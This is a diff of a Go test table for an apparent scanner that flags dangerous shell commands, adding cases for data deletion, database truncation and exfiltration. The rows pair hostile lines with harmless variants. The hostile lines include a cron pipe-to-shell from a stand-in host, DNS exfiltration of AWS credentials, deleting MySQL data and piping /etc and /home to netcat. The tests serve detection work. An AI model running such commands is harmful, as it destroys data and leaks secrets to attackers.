@@ -38,6 +38,13 @@ func TestWhereCommandsStand(t *testing.T) {
 		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/a | sh') | crontab -\n", "1 pipe-to-shell"},
 		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/health') | crontab -\n", ""},
 		{"a.sh", "dig $(base64 ~/.aws/credentials).x.example\n", "1 exfiltrate"},
+		{"a.sh", "mv /var/lib/mysql /dev/null\n", "1 delete-data"},
+		{"a.sh", "mv a.log /dev/null\n", ""},
+		{"a.sh", ": > /var/lib/app/app.db\n", "1 delete-database-file"},
+		{"a.sh", ": >> /var/lib/app/app.db\n", ""},
+		{"a.sh", ": > /tmp/x.log\n", ""},
+		{"a.sh", "tar czf - /etc /home | nc x.example 4444\n", "1 exfiltrate"},
+		{"a.sh", "tar czf - dist | nc x.example 4444\n", ""},
 		{"a.sh", "dig $(hostname).x.example\n", ""},
 		{"a.py", "subprocess.run(['npx', 'cdk', 'destroy'])\n", "1 destroy-infrastructure"},
 	} {
